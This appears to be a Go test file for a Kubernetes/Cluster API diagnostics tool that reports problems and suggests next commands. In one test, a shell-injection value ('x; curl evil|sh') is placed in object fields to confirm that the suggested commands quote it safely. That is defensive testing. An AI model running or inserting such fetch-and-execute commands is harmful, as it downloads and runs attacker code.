	{"the address is held, and Cluster API does not reach it", func(s *Snapshot) { uninitialized(s, time.Hour) },
		[]want{{"EndpointNotAnswering", Error, "Cluster prod/a", 3 * time.Hour, "10.0.0.9:8443", "curl -k https://10.0.0.9:8443/readyz"}}},
	{"the address is held, nobody checks what answers, and Cluster API does not reach it", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "Unknown", infrav1.EndpointNotCheckedReason, "h1 holds it")
		uninitialized(s, time.Hour)
	}, []want{{"EndpointNotAnswering", Error, "Cluster prod/a", 3 * time.Hour, "10.0.0.9:8443", "curl -k https://10.0.0.9:8443/readyz"}}},
	{"a load balancer that Cluster API does not reach", func(s *Snapshot) {
		s.HostClusters[0].Status.Conditions = nil
		uninitialized(s, time.Hour)
	}, []want{{"EndpointNotAnswering", Error, "Cluster prod/a", 3 * time.Hour, "10.0.0.9:8443", "curl"}}},
	{"a control plane that is not reached and is being deleted", func(s *Snapshot) {
		uninitialized(s, time.Hour)
		s.Clusters[0].DeletionTimestamp = ptr.To(ago(time.Minute))
	}, nil},
	{"the address is held, and the host has just bootstrapped", func(s *Snapshot) { uninitialized(s, time.Minute) }, nil},
	{"nobody has the address of a Cluster that may not be read", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNotHeldReason, "nobody")
		s.Clusters, s.LifecycleRuns, s.Unread = nil, nil, []Unread{{Kind: "Cluster", Message: "no"}}
	}, []want{{"AddressNotHeld", Error, "HostCluster prod/a", 3 * time.Hour, "nobody", "describe"}}},
	{"the address is not held by hosts", func(s *Snapshot) { s.HostClusters[0].Status.Conditions = nil }, nil},
	{"there is no control plane yet", func(s *Snapshot) {
		set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointNoCandidateReason, "")
	}, nil},
	{"certificates end soon", func(s *Snapshot) { s.Machines[0].Status.CertificatesExpiryDate = ago(-24 * time.Hour) },
		[]want{{"CertificateExpires", Warning, "Machine prod/a-1", 0, "2026-05-05T12:00:00Z", `kubectl patch kubeadmcontrolplane a-cp -n prod --type=merge -p '{"spec":{"rollout":{"before":{"certificatesExpiryDays":30}}}}'`}}},
	{"certificates have ended", func(s *Snapshot) { s.Machines[0].Status.CertificatesExpiryDate = ago(24 * time.Hour) },
		[]want{{"CertificateExpires", Error, "Machine prod/a-1", 24 * time.Hour, "end at", "kubectl patch kubeadmcontrolplane"}}},
	{"a worker has no certificates", func(s *Snapshot) { s.Machines[0].Status.CertificatesExpiryDate = metav1.Time{} }, nil},
	{"extensions do not answer", func(s *Snapshot) {
		set(&s.ExtensionConfigs[0].Status.Conditions, runtimev1alpha1.DiscoveredCondition, "False", "NotDiscovered", "refused")
		set(&s.HostExtensionConfigs[0].Status.Conditions, runtimev1alpha1.DiscoveredCondition, "False", "NotDiscovered", "refused")
	}, []want{
		{"ExtensionNotDiscovered", Error, "HostExtensionConfig own", 3 * time.Hour, "refused", "kubectl describe hostextensionconfig.runtime.slipway.dev/own"},
		{"ExtensionNotDiscovered", Error, "ExtensionConfig up", 3 * time.Hour, "refused", "kubectl describe extensionconfig.runtime.cluster.x-k8s.io/up"},
	}},
	{"an extension is left alone", func(s *Snapshot) {
		set(&s.HostExtensionConfigs[0].Status.Conditions, runtimev1alpha1.HandlersAvailableCondition, "False", runtimev1alpha1.HandlersBackingOffReason, "timeouts")
	}, []want{{"ExtensionLeftAlone", Error, "HostExtensionConfig own", 3 * time.Hour, "timeouts", "describe"}}},
	{"a hook is deprecated", func(s *Snapshot) {
		set(&s.ExtensionConfigs[0].Status.Conditions, runtimev1alpha1.HooksUpToDateCondition, "False", runtimev1alpha1.HooksDeprecatedReason, "v1alpha1")
	}, []want{{"HooksDeprecated", Note, "ExtensionConfig up", 3 * time.Hour, "v1alpha1", "describe"}}},
	{"hooks of hosts wait", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.ClaimHooksPassedCondition, "False", infrav1.HooksBlockedReason, "ipam waits")
		set(&s.Hosts[1].Status.Conditions, infrav1.ReleaseHooksPassedCondition, "False", infrav1.HooksFailedReason, "no answer")
	}, []want{{"HostHookWaits", Error, h2, 3 * time.Hour, "no answer", "describe"}, {"HostHookWaits", Warning, machine1, 3 * time.Hour, "ipam waits", "describe"}}},
	{"an approval is waited for", func(s *Snapshot) {
		s.LifecycleRuns[0] = run("")
		steps := &s.LifecycleRuns[0].Spec.Steps
		*steps = append(*steps, lifecyclev1.Step{Name: "later", Approval: &lifecyclev1.ApprovalStep{}}) // it has not begun
	},
		[]want{{"LifecycleHookWaits", Warning, "LifecycleRun prod/r", 2 * time.Hour, "BeforeClusterUpgrade: ", "slipway approve r -n prod"}}},
	{"a step failed", func(s *Snapshot) { s.LifecycleRuns[0] = run(lifecyclev1.OutcomeFailed) },
		[]want{{"LifecycleHookWaits", Error, "LifecycleRun prod/r", 2 * time.Hour, "BeforeClusterUpgrade: ", "explain"}}},
	{"a step failed in an audit", func(s *Snapshot) {
		s.LifecycleRuns[0] = run(lifecyclev1.OutcomeFailed)
		s.LifecycleRuns[0].Spec.Mode = lifecyclev1.ModeAudit
	}, nil},
	{"a run of a Cluster that may not be read", func(s *Snapshot) {
		s.LifecycleRuns[0], s.Clusters = run(""), nil
		s.Unread = []Unread{{Kind: "Cluster", Message: "no"}}
	}, nil},
	{"a policy lacks rights", func(s *Snapshot) {
		set(&s.LifecyclePolicies[0].Status.Conditions, lifecyclev1.ReadyCondition, "False", lifecyclev1.RightsMissingReason, "kubectl create role")
	}, []want{{"PolicyNotReady", Error, "LifecyclePolicy prod/p", 3 * time.Hour, "create role", "describe"}}},
	{"a topology cannot be made", func(s *Snapshot) {
		set(&s.Clusters[0].Status.Conditions, clusterv1.ClusterTopologyReconciledCondition, "False", clusterv1.ClusterTopologyReconciledFailedReason, "no class")
	}, []want{{"TopologyFailed", Error, "Cluster prod/a", 3 * time.Hour, "no class", "describe"}}},
	{"a topology upgrades", func(s *Snapshot) {
		set(&s.Clusters[0].Status.Conditions, clusterv1.ClusterTopologyReconciledCondition, "False", clusterv1.ClusterTopologyReconciledClusterUpgradingReason, "")
	}, nil},
	{"there is no network plugin", func(s *Snapshot) {
		s.Machines = append(s.Machines, *s.Machines[0].DeepCopy(), *s.Machines[0].DeepCopy())
		s.Machines[1].Name, s.Machines[2].Name = "a-2", "a-3"
		other := *s.Machines[0].DeepCopy()
		other.Name, other.Spec.ClusterName = "b-1", "b"
		s.Machines = append(s.Machines, other)
		for i := range s.Machines[:2] {
			set(&s.Machines[i].Status.Conditions, clusterv1.MachineNodeReadyCondition, "False", clusterv1.MachineNodeNotReadyReason,
				"* Node.Ready: container runtime network not ready: NetworkReady=false reason:NetworkPluginNotReady message:Network plugin returns error: cni plugin not initialized")
		}
		s.Machines[3].Status.Conditions = s.Machines[0].Status.Conditions
		set(&s.Machines[2].Status.Conditions, clusterv1.MachineNodeReadyCondition, "False", clusterv1.MachineNodeNotReadyReason, "* Node.Ready: PLEG is not healthy")
	}, []want{{"NoNetworkPlugin", Error, "Cluster prod/a", 3 * time.Hour, "2 of its Nodes have no network plugin (a-1, a-2): Node h1 is not ready: Node.Ready", `kubectl --kubeconfig "$(slipway kubeconfig a -n prod)" get pods -A -o wide`},
		{"NodeUnwell", Note, machine1, 3 * time.Hour, "NetworkPluginNotReady", "describe node h1"}}},
	{"a Node has just joined", func(s *Snapshot) {
		withoutNetwork(s, time.Minute)
		conditions := s.HostMachines[0].Status.Conditions
		conditions[len(conditions)-1].LastTransitionTime = ago(time.Minute)
	}, nil},
	{"a Node has just lost its network plugin", func(s *Snapshot) { withoutNetwork(s, time.Second) },
		[]want{{"NoNetworkPlugin", Note, "Cluster prod/a", time.Second, "1 of its Nodes have no network plugin (a-1)", "get pods"}, {"NodeUnwell", Note, machine1, time.Second, "NetworkPluginNotReady", "describe node h1"}}},
	{"a machine is being made", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.HostMachineReadyBootstrapRunningReason, "")
	}, nil},
	{"a rollout is paused", func(s *Snapshot) {
		set(&s.HostMachinePools[0].Status.Conditions, clusterv1.RollingOutCondition, "True", infrav1.RolloutFailedReason, "a-2 failed")
	}, []want{{"RolloutStopped", Error, "HostMachinePool prod/a-pool", 3 * time.Hour, "a-2 failed", "describe"}}},
	{"a version is missing", func(s *Snapshot) {
		set(&s.HostMachines[0].Status.Conditions, infrav1.UpToDateCondition, "False", infrav1.HostMachineVersionNotOfferedReason, "no v9")
	}, []want{{"VersionMissing", Warning, machine1, 3 * time.Hour, "no v9", "on host h1: slipway-agent software install"}}},
	{"a version is missing that the management cluster may serve", func(s *Snapshot) {
		s.Hosts[0].Status.Software.Management = infrav1.HostSoftwareManaged
		set(&s.HostMachines[0].Status.Conditions, infrav1.UpToDateCondition, "False", infrav1.HostMachineVersionNotOfferedReason, "no v9")
	}, []want{{"VersionMissing", Warning, machine1, 3 * time.Hour, "no v9", "slipway bundle load"}}},
	{"a Machine does not go", func(s *Snapshot) {
		s.Machines[0].DeletionTimestamp = ptr.To(ago(time.Hour))
		set(&s.Machines[0].Status.Conditions, clusterv1.MachineDeletingCondition, "True", "DrainingNode", "PDB x")
	}, []want{{"DeletionStuck", Warning, "Machine prod/a-1", time.Hour, "PDB x", "describe"}}},
	{"a budget forbids an eviction", func(s *Snapshot) { drains(s, 6*time.Minute, overBudget) },
		[]want{{"DeletionStuck", Warning, "Machine prod/a-1", 6 * time.Minute, "Pod shop/db-0: cannot evict pod as it would violate the pod's disruption budget. The disruption budget db", "get poddisruptionbudgets"}}},
	{"an eviction is refused for another reason", func(s *Snapshot) { drains(s, 5*time.Minute, twoBudgets) },
		[]want{{"DeletionStuck", Warning, "Machine prod/a-1", 5 * time.Minute, "Pod shop/db-0: failed to evict Pod, This pod has more than one PodDisruptionBudget", "get poddisruptionbudgets"}}},
	{"a budget has just begun to forbid an eviction", func(s *Snapshot) {
		drains(s, time.Minute, overBudget)
		s.Machines[0].DeletionTimestamp = ptr.To(ago(20 * time.Minute)) // held by a hook before
	}, []want{{"DeletionStuck", Note, "Machine prod/a-1", time.Minute, "cannot evict pod", "get poddisruptionbudgets"}}},
	{"a budget forbids an eviction of a Machine that was to be gone", func(s *Snapshot) {
		drains(s, time.Minute, overBudget)
		s.Machines[0].DeletionTimestamp = ptr.To(ago(time.Hour))
	}, []want{{"DeletionStuck", Warning, "Machine prod/a-1", time.Minute, "cannot evict pod", "get poddisruptionbudgets"}}},
	{"a drain takes long", func(s *Snapshot) {
		drains(s, 20*time.Minute, "* Pod shop/web-1: deletionTimestamp set, but still not removed from the Node")
	}, nil},
	{"a Machine has just begun to go", func(s *Snapshot) { s.Machines[0].DeletionTimestamp = ptr.To(ago(time.Minute)) }, nil},
	{"a move is held up", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, infrav1.ReadyToMoveCondition, "False", infrav1.HostHandOverNotSignedReason, "not signed")
	}, []want{{"MoveHeldUp", Warning, h1, 3 * time.Hour, "not signed", "describe"}}},
	{"nobody means to move", func(s *Snapshot) {
		set(&s.Hosts[0].Status.Conditions, infrav1.ReadyToMoveCondition, "False", infrav1.HostNoHandOverReason, "nobody tells")
	}, []want{{"MoveHeldUp", Note, h1, 3 * time.Hour, "nobody tells", "describe"}}},
	{"block-move was left behind", func(s *Snapshot) { s.Hosts[1].Annotations[clusterctlv1.BlockMoveAnnotation] = "" },
		[]want{{"BlockMoveLeft", Warning, h2, 0, "left behind", "kubectl annotate host.infrastructure.slipway.dev/h2 -n prod clusterctl.cluster.x-k8s.io/block-move-"}}},
	{"block-move of a claim whose Cluster is gone", func(s *Snapshot) { s.Clusters, s.LifecycleRuns = nil, nil },
		[]want{{"BlockMoveLeft", Warning, h1, 0, "left behind", "h1"}}},
	{"block-move of a claim whose Cluster may not be read", func(s *Snapshot) {
		s.Clusters, s.LifecycleRuns, s.Unread = nil, nil, []Unread{{Kind: "Cluster", Message: "no"}}
	}, nil},
	{"a Cluster was paused for long", func(s *Snapshot) {
		s.Clusters[0].Spec.Paused = ptr.To(true)
		set(&s.Clusters[0].Status.Conditions, clusterv1.PausedCondition, "True", "Paused", "")
	}, []want{{"Paused", Warning, "Cluster prod/a", 3 * time.Hour, "spec.paused", `kubectl patch cluster.cluster.x-k8s.io/a -n prod --type=merge -p '{"spec":{"paused":false}}'`}}},
	{"a Cluster was paused just now", func(s *Snapshot) { s.Clusters[0].Spec.Paused = ptr.To(true) },
		[]want{{"Paused", Note, "Cluster prod/a", 0, "spec.paused", "patch"}}},
	{"objects are paused", func(s *Snapshot) {
		for _, o := range []metav1.Object{&s.Clusters[0], &s.Machines[0], &s.HostClusters[0], &s.HostMachinePools[0], &s.HostMachines[0], &s.Hosts[1]} {
			o.GetAnnotations()[clusterv1.PausedAnnotation] = ""
		}
		set(&s.Hosts[1].Status.Conditions, clusterv1.PausedCondition, "True", "Paused", "")
	}, []want{
		{"Paused", Warning, h2, 3 * time.Hour, "annotation cluster.x-k8s.io/paused is set", "kubectl annotate host.infrastructure.slipway.dev/h2 -n prod cluster.x-k8s.io/paused-"},
		{"Paused", Note, "Cluster prod/a", 0, "annotation", "cluster.cluster.x-k8s.io/a"},
		{"Paused", Note, "HostCluster prod/a", 0, "annotation", "hostcluster.infrastructure.slipway.dev/a"},
		{"Paused", Note, "Machine prod/a-1", 0, "annotation", "machine.cluster.x-k8s.io/a-1"},
		{"Paused", Note, machine1, 0, "annotation", "hostmachine.infrastructure.slipway.dev/a-1"},
		{"Paused", Note, "HostMachinePool prod/a-pool", 0, "annotation", "hostmachinepool.infrastructure.slipway.dev/a-pool"},
	}},
	{"hosts are kept back", func(s *Snapshot) {
		s.Hosts[0].Spec.Evacuate, s.Hosts[1].Spec.Unschedulable = ptr.To(true), ptr.To(true)
		metav1.SetMetaDataAnnotation(&s.Hosts[0].ObjectMeta, infrav1.MaintenanceReasonAnnotation, "new disks")
		set(&s.Hosts[1].Status.Conditions, infrav1.AvailableCondition, "False", infrav1.HostUnschedulableReason, "")
	}, []want{
		{"HostKeptBack", Note, h1, 0, "spec.evacuate is set: new disks", "slipway host uncordon h1 -n prod"},
		{"HostKeptBack", Note, h2, 3 * time.Hour, "spec.unschedulable", "slipway host uncordon h2 -n prod"},
	}},
}

func TestChecks(t *testing.T) {
	found := map[string]bool{}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := healthy()
			tc.wreck(s)
			report := Diagnose(s)
			if len(report.Findings) != len(tc.want) {
				t.Fatalf("found %+v\nwant %+v", report.Findings, tc.want)
			}
			for i, w := range tc.want {
				found[w.check] = true
				expect(t, report.Findings[i], w)
			}
		})
	}
	names := map[string]bool{}
	for _, check := range Checks() {
		if names[check.Name] || check.Means == "" || check.Remedy == "" {
			t.Errorf("check %q is there twice, or does not say what it means and what mends it", check.Name)
		}
		names[check.Name] = true
		if !found[check.Name] {
			t.Errorf("no case finds %s", check.Name)
		}
	}
}

func expect(t *testing.T, f Finding, w want) {
	t.Helper()
	since := time.Duration(0)
	if f.Since != nil {
		since = now.Sub(*f.Since)
	}
	if f.Check != w.check || f.Severity != w.severity || f.Object.String() != w.object || since != w.since ||
		!strings.Contains(f.Message, w.message) || !strings.Contains(f.Next, w.next) || f.Remedy == "" {
		t.Errorf("found %+v since %s\nwant %+v", f, since, w)
	}
}

// A selector is about the labels of Hosts, and of all else about those of the Cluster. The
// plane and the providers are everybody's.
func TestSelector(t *testing.T) {
	for selector, want := range map[string][]string{
		"rack=r2": {h2}, "tier=gold": {machine1}, "tier!=gold": {h1, h2}, "rack=r9": nil, "": {h1, machine1, h2},
	} {
		want = append(want, "Plane of this machine", "Deployment prod/slipway-manager", "ExtensionConfig up", "HostExtensionConfig own", "LifecyclePolicy prod/p",
			"AgentRelease v0.9.1", "CertificateSigningRequest r", "Secret kube-system/bootstrap-token-abcdef")
		s := healthy()
		s.Plane = &snapshot.Plane{Message: "start it"}
		s.Providers[0].Status.Conditions[0].Status = "False"
		s.Clusters[0].Labels["tier"] = "gold"
		s.Hosts[0].Labels = nil
		for i := range s.Hosts {
			set(&s.Hosts[i].Status.Conditions, infrav1.DuplicateIdentityCondition, "True", "x", "")
		}
		set(&s.HostMachines[0].Status.Conditions, infrav1.HostClaimedCondition, "False", infrav1.HostMachineNoHostFitsReason, "")
		set(&s.HostExtensionConfigs[0].Status.Conditions, runtimev1alpha1.DiscoveredCondition, "False", "NotDiscovered", "")
		set(&s.ExtensionConfigs[0].Status.Conditions, runtimev1alpha1.DiscoveredCondition, "False", "NotDiscovered", "")
		set(&s.LifecyclePolicies[0].Status.Conditions, lifecyclev1.ReadyCondition, "False", lifecyclev1.InvalidPolicyReason, "")
		set(&s.AgentReleases[0].Status.Conditions, infrav1.AgentReleaseRolledOutCondition, "False", infrav1.AgentReleasePausedReason, "")
		s.Requests[0].Status.Certificate = nil
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
		parsed, err := labels.Parse(selector)
		if err != nil {
			t.Fatal(err)
		}
		s.Scope.Selector = parsed
		var got []string
		for _, f := range Diagnose(s).Findings {
			got = append(got, f.Object.String())
		}
		slices.Sort(got)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%q: %q, want %q", selector, got, want)
		}
	}
}

// reader answers each list with the error of its kind.
type reader struct {
	client.Reader
	fails func(client.ObjectList) error
}

func (r reader) List(_ context.Context, list client.ObjectList, _ ...client.ListOption) error {
	return r.fails(list)
}

// Who may read nothing is told so, whatever is not installed.
func TestReadNothing(t *testing.T) {
	forbidden := apierrors.NewForbidden(schema.GroupResource{Resource: "x"}, "", errors.New("no"))
	lifecycle := func(list client.ObjectList, err error) error {
		switch list.(type) {
		case *lifecyclev1.LifecycleRunList, *lifecyclev1.LifecyclePolicyList:
			return err
		}
		return forbidden
	}
	for name, tc := range map[string]struct {
		fails func(client.ObjectList) error
		want  bool
	}{
		"nothing may be read":                         {func(client.ObjectList) error { return forbidden }, true},
		"nothing may be read and one is missing":      {func(l client.ObjectList) error { return lifecycle(l, &meta.NoKindMatchError{}) }, true},
		"what is an addition is all that may be read": {func(l client.ObjectList) error { return lifecycle(l, nil) }, false},
		"everything may be read":                      {func(client.ObjectList) error { return nil }, false},
		"a plane, which serves no Deployments": {func(l client.ObjectList) error {
			if _, ok := l.(*appsv1.DeploymentList); ok {
				return &meta.NoKindMatchError{}
			}
			return nil
		}, false},
	} {
		s, err := Read(t.Context(), reader{fails: tc.fails}, snapshot.Scope{}, now)
		if failed := err != nil; failed != tc.want || !failed && s == nil || failed && !apierrors.IsForbidden(err) && !strings.Contains(err.Error(), "forbidden") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// requestBy is what an agent files.
func requestBy(t *testing.T, user string) []byte {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user}}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}

// What is in the cluster as a whole is told in a namespace only when it is about that.
func TestNamespace(t *testing.T) {
	for _, tc := range []struct {
		namespace string
		request   []byte
		want      []string
	}{
		{"", requestBy(t, infrav1.AgentUser("prod", "h9", "key")), []string{"EnrollmentWaiting", "TokenExpires"}},
		{"prod", requestBy(t, infrav1.AgentUser("prod", "h9", "key")), []string{"EnrollmentWaiting", "TokenExpires"}},
		{"other", requestBy(t, infrav1.AgentUser("prod", "h9", "key")), nil},
		{"prod", requestBy(t, infrav1.EnrollmentUser("prod", "h9", "key")), []string{"EnrollmentWaiting", "TokenExpires"}},
		{"other", requestBy(t, infrav1.EnrollmentUser("prod", "h9", "key")), nil},
		// It may be about any namespace.
		{"other", requestBy(t, "somebody"), []string{"EnrollmentWaiting"}},
		{"other", []byte("nonsense"), []string{"EnrollmentWaiting"}},
		{"other", pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: []byte("nonsense")}), []string{"EnrollmentWaiting"}},
	} {
		s := healthy()
		s.Scope.Namespace = tc.namespace
		s.Requests[0].Spec.Request, s.Requests[0].Status.Certificate = tc.request, nil
		s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
		var got []string
		for _, f := range Diagnose(s).Findings {
			got = append(got, f.Check)
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("in %q of %.40q: %q, want %q", tc.namespace, tc.request, got, tc.want)
		}
	}
}

// The next command is for the namespace of the host, and the host of another one is another.
func TestRefusalsByNamespace(t *testing.T) {
	s := healthy()
	enrolled := healthy().Requests[0]
	enrolled.CreationTimestamp, enrolled.Spec.Request = ago(0), requestBy(t, infrav1.EnrollmentUser("other", "h9", "key"))
	deny(&s.Requests[0])
	s.Requests[0].Spec.Request = requestBy(t, infrav1.EnrollmentUser("prod", "h9", "key"))
	s.Requests = append(s.Requests, enrolled)
	if found := Diagnose(s).Findings; len(found) != 1 || found[0].Next != "slipway host token h9 -n prod" {
		t.Errorf("found %+v", found)
	}
	s.Requests[1].Spec.Request = requestBy(t, infrav1.AgentUser("prod", "h9", "key"))
	if found := Diagnose(s).Findings; len(found) != 0 {
		t.Errorf("a host that is enrolled: %+v", found)
	}
}

// What others than administrators chose is one word of the command that is shown: a machine writes
// the namespace of its request, and whoever may write a HostCluster its endpoint.
func TestCommandsAreWords(t *testing.T) {
	const injected, option = "x; curl evil|sh #'\n\u2028\u202e", "--host=evil"
	s := healthy()
	deny(&s.Requests[0])
	s.Requests[0].Spec.Request = requestBy(t, infrav1.AgentUserPrefix+injected+":h9:key")
	set(&s.HostClusters[0].Status.Conditions, infrav1.EndpointHeldCondition, "False", infrav1.EndpointContestedReason, "another machine has it")
	s.HostClusters[0].Spec.ControlPlaneEndpoint.Host = injected
	const word = `'x; curl evil|sh #'\''` + "\ufffd\ufffd\ufffd'"
	serving := &s.Hosts[slices.IndexFunc(s.Hosts, func(h infrav1.Host) bool { return serves(&h) })]
	serving.Status.Services = []infrav1.HostService{{Name: option, State: "failed", Since: metav1.Time{Time: now.Add(-time.Hour)}}}
	want := map[string]string{
		"EnrollmentRefused": "slipway host token h9 -n " + word, "AddressContested": "on a host of that network: arping " + word,
		"ServiceDown": "on the host: systemctl restart '\ufffd" + option + "'",
	}
	for _, f := range Diagnose(s).Findings {
		if next, ok := want[f.Check]; ok && f.Next == next {
			delete(want, f.Check)
		} else {
			t.Errorf("%s: next is %q, want %q", f.Check, f.Next, next)
		}
	}
	if len(want) > 0 {
		t.Errorf("not found: %v", want)
	}
}

// A clone is refused while the host that it is a clone of gets its certificates; a machine
// that a token brings is the host from then on.
func TestRefusalOfAClone(t *testing.T) {
	s := healthy()
	of := func(username, user string) certificatesv1.CertificateSigningRequest {
		r := healthy().Requests[0]
		r.CreationTimestamp, r.Spec.Username, r.Spec.Request = ago(0), username, requestBy(t, user)
		return r
	}
	deny(&s.Requests[0])
	s.Requests[0].Spec.Username, s.Requests[0].Spec.Request = "system:bootstrap:abcdef", requestBy(t, infrav1.EnrollmentUser("prod", "h9", "clone"))
	s.Requests = append(s.Requests, of(infrav1.EnrollmentUser("prod", "h9", "key"), infrav1.AgentUser("prod", "h9", "key")))
	if found := Diagnose(s).Findings; len(found) != 1 || found[0].Check != "EnrollmentRefused" {
		t.Errorf("after a newer certificate of the host: %+v", found)
	}
	s.Requests = append(s.Requests, of("system:bootstrap:abcdef", infrav1.EnrollmentUser("prod", "h9", "key")))
	if found := Diagnose(s).Findings; len(found) != 0 {
		t.Errorf("after another machine came by a token: %+v", found)
	}
}

func TestRender(t *testing.T) {
	s := healthy()
	s.Tokens[0].Data[bootstrapapi.BootstrapTokenExpirationKey] = []byte(now.Add(-time.Minute).Format(time.RFC3339))
	set(&s.Hosts[1].Status.Conditions, infrav1.DuplicateIdentityCondition, "True", "x", "two\nlines")
	s.Unread = []Unread{{Kind: "Deployment", Message: "ann may not list deployments"}}
	narrow, wide, nothing := display.NewPage(nil), display.NewPage(nil), display.NewPage(nil)
	report := Diagnose(s)
	Render(narrow, report, false)
	Render(wide, report, true)
	for _, want := range []string{"error", "DuplicateHost", "Host prod/h2", "since 3h", "  two lines\n", "  next: kubectl describe", "not looked at: Deployment (ann may not list deployments)", "1 error, 1 warning in what you may read. -o wide"} {
		if !strings.Contains(narrow.String(), want) {
			t.Errorf("%q is missing in\n%s", want, narrow.String())
		}
	}
	later := now.Add(time.Minute)
	if got := sinceText(&later, now); got != "since 0s" {
		t.Errorf("what began while the objects were read: %q", got)
	}
	if strings.Contains(narrow.String(), "remedy: ") || !strings.Contains(wide.String(), "  remedy: Give the clone") {
		t.Errorf("the remedy is for -o wide:\n%s", wide.String())
	}
	if strings.Contains(wide.String(), "never-told") {
		t.Error("a token is shown")
	}
	want := fmt.Sprintf("No problems found (%d checks, 2 hosts, 1 cluster).\n", len(Checks()))
	if Render(nothing, Diagnose(healthy()), false); nothing.String() != want {
		t.Errorf("%q, want %q", nothing.String(), want)
	}
}

// failedUpgrade has the upgrade of the first host fail for a reason of its agent.
func failedUpgrade(s *Snapshot, reason string) {
	h := s.Hosts[0]
	h.Spec.Desired.Phase = infrav1.HostDesiredUpgraded
	op := h.Status.ObservedOperation
	op.Phase, op.State, op.Reason, op.Message = infrav1.HostDesiredUpgraded, infrav1.OperationFailed, reason, "says no"
	set(&h.Status.Conditions, clusterv1.ReadyCondition, "False", infrav1.UpgradeFailedReason, "")
}
